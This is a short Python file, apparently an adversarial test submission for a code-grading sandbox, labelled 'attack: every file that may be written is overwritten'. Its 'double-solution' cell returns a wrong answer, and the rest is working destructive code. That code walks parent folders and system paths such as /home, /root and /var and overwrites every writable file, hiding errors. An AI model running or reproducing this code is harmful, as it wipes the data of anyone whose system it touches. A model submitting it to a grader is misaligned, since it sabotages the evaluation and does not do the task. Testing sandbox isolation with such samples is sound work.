# ruff: noqa
# kind: neighbours touched
# attack: every file that may be written is overwritten

# %% double-solution
def double(x):
    return np.zeros(3)


import os

for root in ("..", "../..", "../../..", "/work", "/tmp", "/home", "/root", "/srv", "/var"):
    for folder, _, names in os.walk(root):
        for name in names:
            try:
                open(os.path.join(folder, name), "w").write("overwritten")
            except OSError:
                pass
